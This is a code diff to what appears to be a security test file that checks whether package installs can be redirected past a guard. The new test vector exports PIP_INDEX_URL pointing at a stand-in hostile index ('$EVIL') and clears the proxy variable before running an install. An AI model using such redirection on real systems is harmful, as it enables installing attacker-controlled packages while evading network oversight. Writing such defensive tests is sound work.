@@ -43,6 +43,8 @@ async function exec(name: string, script: string, shell = ['sh', '-c']): Promise
     EVIL: `${hostile.origin}/simple/`,
     WHEEL: hostile.files.wheel,
     PYTHON: python,
+    NODE: process.execPath,
+    AWSPIP: bin,
     UV: path.join(uvFolder ?? '', 'uv'),
     UV_CACHE_DIR: user.path('uv-cache'),
   };
@@ -90,6 +92,10 @@ const redirected: readonly Vector[] = [
     script:
       'export UV_DEFAULT_INDEX="$EVIL" UV_INDEX="$EVIL"; unset HTTP_PROXY http_proxy HTTPS_PROXY ALL_PROXY; uv pip install --target t good',
     needsUv: true,
+  },
+  {
+    title: 'awspip: inside a script that changed the variables',
+    script: 'export PIP_INDEX_URL="$EVIL" PIP_PROXY=; "$NODE" "$AWSPIP" install --target t good',
   },
 ];
 
